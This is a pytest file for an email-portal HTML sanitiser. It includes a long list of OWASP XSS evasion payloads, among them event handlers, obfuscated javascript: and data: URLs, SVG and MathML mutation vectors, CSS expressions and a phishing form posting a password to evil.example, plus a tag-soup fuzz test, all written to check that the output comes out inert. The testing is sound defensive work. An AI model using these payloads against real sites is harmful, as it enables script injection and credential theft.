"""The display sanitiser against hostile HTML: pure function, no database, no network.

Every output is parsed back with html.parser and checked structurally (tags,
attribute names, URL schemes as a browser would read them), not by substring.
"""

from __future__ import annotations

import random
import re
from html.parser import HTMLParser

import pytest
from markupsafe import Markup, escape

from ingest.mail.parse import parse_message
from portal.html import ALLOWED_TAGS, SanitizedHtml, sanitize_email_html
from tests.helpers import MAIL

#: Elements that run script, load a document, submit data or change how the page
#: resolves URLs. None of them may survive.
EXECUTABLE_TAGS = {
    "script",
    "style",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "form",
    "input",
    "button",
    "textarea",
    "select",
    "option",
    "meta",
    "link",
    "base",
    "svg",
    "math",
    "template",
    "noscript",
    "video",
    "audio",
    "source",
    "bgsound",
    "marquee",
    "details",
    "isindex",
    "xss",
}
#: Attributes that carry script, CSS, a nested document or a URL we never emit.
FORBIDDEN_ATTRIBUTES = {
    "style",
    "srcdoc",
    "action",
    "formaction",
    "background",
    "dynsrc",
    "lowsrc",
    "srcset",
    "xlink:href",
    "http-equiv",
    "content",
    "data",
    "codebase",
    "class",
    "id",
    "ping",
    "poster",
}
LINK_SCHEMES = {"http", "https", "mailto", "tel"}


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.other: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag

    def handle_comment(self, data: str) -> None:
        self.other.append(f"comment {data!r}")

    def handle_decl(self, decl: str) -> None:
        self.other.append(f"declaration {decl!r}")

    def unknown_decl(self, data: str) -> None:
        self.other.append(f"declaration {data!r}")

    def handle_pi(self, data: str) -> None:
        self.other.append(f"processing instruction {data!r}")


def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    collector = _Collector()
    collector.feed(html)
    collector.close()
    assert collector.other == [], collector.other
    return collector.elements


def browser_scheme(url: str) -> str | None:
    """The scheme as the WHATWG URL parser reads it: leading C0/space stripped, and
    tab/CR/LF ignored anywhere. None for a relative URL."""
    compact = re.sub(r"[\t\n\r]", "", url).lstrip("".join(chr(c) for c in range(0x21)))
    match = re.match(r"([a-zA-Z][a-zA-Z0-9+.-]*):", compact)
    return match.group(1).lower() if match else None


def assert_inert(
    html: str, *, src_schemes: set[str] = frozenset(), own_srcs: set[str] = frozenset()
) -> None:
    """No executable construct: only allowlisted tags, no handlers, no CSS, safe URLs.

    An image source must use one of `src_schemes`, or be one of the URLs the test
    itself handed over for cid: parts (`own_srcs`).
    """
    assert "<script" not in html.lower()  # belt and braces; the parse below is the check
    for tag, attrs in elements(html):
        assert tag not in EXECUTABLE_TAGS, (tag, html)
        assert tag in ALLOWED_TAGS, (tag, html)
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name, html)
            assert name not in FORBIDDEN_ATTRIBUTES, (tag, name, html)
            if name == "href":
                assert tag == "a"
                assert browser_scheme(value or "") in LINK_SCHEMES, (value, html)
            if name == "src":
                assert tag == "img"
                assert value in own_srcs or browser_scheme(value or "") in src_schemes, (
                    value,
                    html,
                )
        if tag == "a":
            assert attrs.get("target") == "_blank"
            assert set((attrs.get("rel") or "").split()) >= {"noopener", "noreferrer"}


# --- OWASP XSS filter-evasion classes --------------------------------------------------

ENTITY_DECIMAL = "".join(f"&#{ord(c)};" for c in "javascript:alert('XSS')")
ENTITY_DECIMAL_LONG = "".join(f"&#{ord(c):07d}" for c in "javascript:alert('XSS')")
ENTITY_HEX = "".join(f"&#x{ord(c):X}" for c in "javascript:alert('XSS')")

VECTORS = {
    # script tags, plain and disguised
    "script": "<script>alert('XSS')</script>",
    "script-src": '<SCRIPT SRC="http://xss.rocks/xss.js"></SCRIPT>',
    "script-slash-attr": '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    "script-extra-brackets": '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "script-unclosed": "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "script-protocol-relative": "<SCRIPT SRC=//xss.rocks/.j>",
    "script-nested-split": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script-after-title": '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    "script-in-conditional-comment": "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "script-quote-breakout": '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    # event handlers
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-onerror-unclosed": "<img src=x onerror=alert(1)//",
    "img-onmouseover": "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "img-onerror-entities": f'<img src=x onerror="{ENTITY_DECIMAL_LONG}">',
    "a-onmouseover": '<a onmouseover="alert(document.cookie)">xxs link</a>',
    "body-onload": "<BODY ONLOAD=alert('XSS')>",
    "body-onload-junk-name": '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    "details-ontoggle": "<details open ontoggle=alert(1)>x</details>",
    "video-source-onerror": "<video><source onerror=alert(1)></video>",
    "marquee-onstart": "<marquee onstart=alert(1)>x</marquee>",
    "p-onclick-upper": '<P ONCLICK="alert(1)">x</P>',
    # javascript: with case, entity and whitespace tricks
    "img-js": "<IMG SRC=\"javascript:alert('XSS');\">",
    "img-js-unquoted": "<IMG SRC=javascript:alert('XSS')>",
    "img-js-case": "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "img-js-backticks": "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "img-js-fromcharcode": "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "img-js-decimal-entities": f"<IMG SRC={ENTITY_DECIMAL}>",
    "img-js-long-decimal-entities": f"<IMG SRC={ENTITY_DECIMAL_LONG}>",
    "img-js-hex-entities": f"<IMG SRC={ENTITY_HEX}>",
    "img-js-embedded-tab": "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "img-js-encoded-tab": "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "img-js-encoded-newline": "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "img-js-encoded-cr": "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    "img-js-null": '<IMG SRC=java\x00script:alert("XSS")>',
    "img-js-leading-space-meta": "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "img-js-half-open": "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "a-js-encoded-tab": "<a href=\"jav&#x09;ascript:alert('link')\">x</a>",
    "a-js-first-letter-entity": '<a href="&#106;avascript:alert(1)">x</a>',
    "a-js-leading-space-case": '<a href="  JaVaScRiPt:alert(1)">x</a>',
    "a-js-colon-entity": '<a href="javascript&colon;alert(1)">x</a>',
    "a-js-cr-entity": '<a href="java&#13;script:alert(1)">x</a>',
    "a-js-unclosed": '<a href="javascript:alert(1)"',
    "a-vbscript": "<a href='vbscript:msgbox(\"XSS\")'>x</a>",
    "img-vbscript": "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    "img-dynsrc": "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "img-lowsrc": "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "input-image": '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "bgsound": "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "body-background": "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "table-background": "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><tr><td>x</td></tr></TABLE>",
    "td-background": "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">x</TD></TABLE>",
    # data: URLs
    "a-data-html": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "a-data-case-space": '<a href=" DaTa:text/html,<script>alert(1)</script>">x</a>',
    "img-data-svg": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "img-data-png-not-from-cid": '<img src="data:image/png;base64,iVBORw0KGgo=">',
    "embed-data-svg": '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "object-data": '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
    # SVG and MathML
    "svg-onload": "<svg/onload=alert('XSS')>",
    "svg-script": "<svg><script>alert('svg')</script></svg>",
    "svg-xlink": '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "svg-animate": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "math-mxss": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "noscript-mxss": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    # CSS
    "style-tag-import": "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    "style-tag-list-image": "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "style-attr-expression": "<DIV STYLE=\"width: expression(alert('XSS'));\">x</DIV>",
    "style-attr-expression-comment": "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "style-attr-url": "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">x</DIV>",
    "style-attr-behavior": '<XSS STYLE="behavior: url(xss.htc);">',
    "style-attr-remote-beacon": '<p style="background:url(http://tracker.example/b.gif)">x</p>',
    # frames, meta, base, link, forms
    "iframe-js": "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "iframe-srcdoc-entities": '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
    "iframe-double-open": "<iframe src=http://xss.rocks/scriptlet.html <",
    "frameset": "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "meta-refresh-js": '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    "meta-refresh-data": '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    "meta-link-header": '<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">',
    "link-stylesheet": '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    "base-href": "<BASE HREF=\"javascript:alert('XSS');//\"><a href=x>x</a>",
    "base-href-remote": '<base href="https://evil.example/"><a href="/login">login</a>',
    "form-action": '<form action="javascript:alert(1)"><input type=submit value=go></form>',
    "form-formaction": '<form><button formaction="javascript:alert(1)">x</button></form>',
    "form-phishing": '<form action="https://evil.example/steal" method=post>Password <input name=pw type=password></form>',
    # malformed and unclosed markup
    "unclosed-formatting": "<p><b><i>unclosed <a href='https://example.com'>link",
    "stray-end-tags": "</div></td></table>text</p></html>",
    "attribute-without-quotes-breakout": '<a href=https://example.com/"onmouseover="alert(1)">x</a>',
    "doctype-and-cdata": "<!DOCTYPE html><![CDATA[<script>alert(1)</script>]]>",
    "processing-instruction": '<?xml version="1.0"?><p>x</p>',
}


@pytest.mark.parametrize("allow_remote", [False, True], ids=["remote-blocked", "remote-allowed"])
@pytest.mark.parametrize("vector", VECTORS.values(), ids=VECTORS.keys())
def test_owasp_vector_comes_out_inert(vector, allow_remote):
    result = sanitize_email_html(vector, allow_remote_images=allow_remote)
    assert isinstance(result, SanitizedHtml)
    assert_inert(result.html, src_schemes={"http", "https"} if allow_remote else set())


TAG_SOUP = [
    "<", ">", "/", '"', "'", "=", " ", "\t", "&#x09;", "&#106;", "&lt;", "script", "img", "a",
    "svg", "iframe", "style", "math", "noscript", "src", "href", "onerror", "srcdoc",
    "javascript:", "data:", "alert(1)", "<!--", "-->", "http://x/", "//x/", "cid:a",
]  # fmt: skip


def test_random_tag_soup_comes_out_inert():
    # Seeded, so a failure reproduces; 500 strings of up to 40 hostile pieces.
    rng = random.Random(20261127)
    for _ in range(500):
        soup = "".join(rng.choices(TAG_SOUP, k=rng.randint(1, 40)))
        for allow_remote in (False, True):
            result = sanitize_email_html(
                soup, inline_images={"a": "/att/1"}, allow_remote_images=allow_remote
            )
            assert_inert(
                result.html,
                src_schemes={"http", "https"} if allow_remote else set(),
                own_srcs={"/att/1"},
            )


# --- what is kept ------------------------------------------------------------------------


def test_ordinary_formatting_is_kept():
    html = (
        "<h1>T</h1><h2>T</h2><h3>T</h3><h4>T</h4><h5>T</h5><h6>T</h6>"
        "<p>Hello <b>bold</b> <i>italic</i> <strong>s</strong> <em>e</em><br>line</p>"
        "<ul><li>one</li></ul><ol start=3><li>two</li></ol>"
        "<blockquote>quoted</blockquote><pre><code>x = 1</code></pre>"
        "<div><span>in a span</span></div>"
        "<table border=1><thead><tr><th colspan=2>h</th></tr></thead>"
        "<tbody><tr><td>a</td><td rowspan=1>b</td></tr></tbody></table>"
    )
    out = sanitize_email_html(html).html
    assert_inert(out)
    tags = {tag for tag, _ in elements(out)}
    assert tags >= {"h1", "h2", "h3", "h4", "h5", "h6", "p", "b", "i", "strong", "em", "br"}
    assert tags >= {"ul", "ol", "li", "blockquote", "pre", "code", "div", "span"}
    assert tags >= {"table", "thead", "tbody", "tr", "th", "td"}
    attrs = dict(elements(out))
    assert attrs["ol"] == {"start": "3"}
    assert attrs["th"] == {"colspan": "2"}


def test_links_open_in_a_new_tab_without_referrer_or_opener():
    out = sanitize_email_html(
        '<a href="https://example.com/track?a=1&amp;b=2" target="_self" rel="opener">t</a>'
        '<a href="mailto:buyer@example.com">m</a>'
    ).html
    assert_inert(out)
    links = [attrs for tag, attrs in elements(out) if tag == "a"]
    assert links[0]["href"] == "https://example.com/track?a=1&b=2"
    assert links[1]["href"] == "mailto:buyer@example.com"
    for link in links:
        assert link["target"] == "_blank"
        assert link["rel"].split() == ["noopener", "noreferrer", "nofollow"]


@pytest.mark.parametrize(
    "href", ["/admin/users", "logout", "#top", "cid:logo123", "//evil.example/x"]
)
def test_links_into_the_portal_or_nowhere_lose_their_href(href):
    out = sanitize_email_html(f'<a href="{href}">x</a>').html
    (link,) = [attrs for tag, attrs in elements(out) if tag == "a"]
    # Protocol-relative is made explicit; everything relative to our own pages goes.
    if href.startswith("//"):
        assert link["href"] == "https://evil.example/x"
    else:
        assert "href" not in link


def test_text_that_looks_like_markup_stays_escaped_text():
    out = sanitize_email_html("<p>1 &lt; 2 &amp;&amp; &lt;script&gt;alert(1)&lt;/script&gt;</p>")
    assert out.html == "<p>1 &lt; 2 &amp;&amp; &lt;script&gt;alert(1)&lt;/script&gt;</p>"


def test_result_renders_unescaped_in_templates_and_only_as_sanitised():
    result = sanitize_email_html("<p onclick=x>hi</p>")
    assert escape(result) == Markup("<p>hi</p>")
    assert str(result) == "<p>hi</p>"


# --- cid: inline images ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("src", "inline_images"),
    [
        ("cid:logo123", {"logo123": "/attachments/7"}),
        ("cid:logo123", {"<logo123>": "/attachments/7"}),  # Content-ID header form
        ("CID:logo123", {"logo123": "/attachments/7"}),
        ("cid:%3Clogo123%3E", {"logo123": "/attachments/7"}),  # URL-encoded brackets
        ("cid:Logo123", {"logo123": "/attachments/7"}),  # a mailer changed the case
        ("cid:part1.abc@example.com", {"part1.abc@example.com": "/attachments/7"}),
    ],
)
def test_cid_image_resolves_to_the_callers_url(src, inline_images):
    result = sanitize_email_html(f'<img src="{src}" alt="logo">', inline_images=inline_images)
    (img,) = [attrs for tag, attrs in elements(result.html) if tag == "img"]
    assert img["src"] == "/attachments/7"
    assert img["alt"] == "logo"
    assert result.blocked_remote_images == 0


def test_cid_image_may_resolve_to_a_raster_data_url_or_an_absolute_url():
    png = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ"
    result = sanitize_email_html(
        '<img src="cid:a"><img src="cid:b">',
        inline_images={"a": png, "b": "https://files.example/att/1"},
    )
    assert [attrs["src"] for _, attrs in elements(result.html)] == [
        png,
        "https://files.example/att/1",
    ]
    assert_inert(result.html, src_schemes={"data", "https"})


@pytest.mark.parametrize(
    "target",
    [
        "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "javascript:alert(1)",
        "//evil.example/x.png",
        "relative/path.png",
    ],
)
def test_cid_never_resolves_to_an_unsafe_url_even_from_the_caller(target):
    result = sanitize_email_html('<img src="cid:a">', inline_images={"a": target})
    (img,) = [attrs for tag, attrs in elements(result.html) if tag == "img"]
    assert "src" not in img


def test_unknown_cid_loses_its_src_and_is_not_counted_as_remote():
    result = sanitize_email_html('<img src="cid:nope" alt="x">', inline_images={"a": "/att/1"})
    (img,) = [attrs for tag, attrs in elements(result.html) if tag == "img"]
    assert img == {"alt": "x", "referrerpolicy": "no-referrer"}
    assert result.blocked_remote_images == 0


# --- remote images -----------------------------------------------------------------------

REMOTE = (
    '<p>Hi</p><img src="https://tracker.example/pixel.gif" width=1 height=1>'
    '<img src="HTTP://cdn.example/photo.jpg" alt="photo">'
    '<img src="//cdn.example/proto-relative.png">'
    '<img src="cid:logo" alt="logo">'
)


def test_remote_images_are_blocked_and_counted_by_default():
    result = sanitize_email_html(REMOTE, inline_images={"logo": "/attachments/1"})
    assert result.blocked_remote_images == 3
    srcs = [attrs.get("src") for tag, attrs in elements(result.html) if tag == "img"]
    assert srcs == [None, None, None, "/attachments/1"]
    assert "tracker.example" not in result.html and "cdn.example" not in result.html


def test_remote_images_are_kept_when_allowed_without_sending_a_referrer():
    result = sanitize_email_html(
        REMOTE, inline_images={"logo": "/attachments/1"}, allow_remote_images=True
    )
    assert result.blocked_remote_images == 0
    imgs = [attrs for tag, attrs in elements(result.html) if tag == "img"]
    assert [img.get("src") for img in imgs] == [
        "https://tracker.example/pixel.gif",
        "HTTP://cdn.example/photo.jpg",
        "https://cdn.example/proto-relative.png",
        "/attachments/1",
    ]
    assert all(img["referrerpolicy"] == "no-referrer" for img in imgs)


def test_no_remote_images_means_nothing_blocked():
    assert sanitize_email_html("<p>plain</p>").blocked_remote_images == 0


# --- a real hostile mail, through the parser -------------------------------------------------


def test_hostile_mail_through_parser_and_sanitiser():
    parsed = parse_message((MAIL / "hostile_html.eml").read_bytes())
    assert parsed.html is not None
    inline = {
        att.content_id: f"/attachments/{n}"
        for n, att in enumerate(parsed.attachments, start=1)
        if att.content_id and att.content_type.startswith("image/")
    }
    assert inline == {"logo123": "/attachments/1"}

    result = sanitize_email_html(parsed.html, inline_images=inline)
    assert_inert(result.html, own_srcs={"/attachments/1"})
    found = elements(result.html)
    tags = [tag for tag, _ in found]
    assert "b" in tags and "p" in tags
    links = [attrs for tag, attrs in found if tag == "a"]
    assert [link.get("href") for link in links] == [None, "https://example.com/track"]
    imgs = [attrs for tag, attrs in found if tag == "img"]
    assert [img.get("src") for img in imgs] == ["/attachments/1", None]
    assert result.blocked_remote_images == 1
    # The script and style bodies went with their tags; the buyer's words stayed.
    assert "alert" not in result.html
    assert "Hello" in result.html and "tracking" in result.html

    shown = sanitize_email_html(parsed.html, inline_images=inline, allow_remote_images=True)
    assert_inert(shown.html, src_schemes={"https"}, own_srcs={"/attachments/1"})
    assert "https://tracker.example/pixel.gif" in shown.html
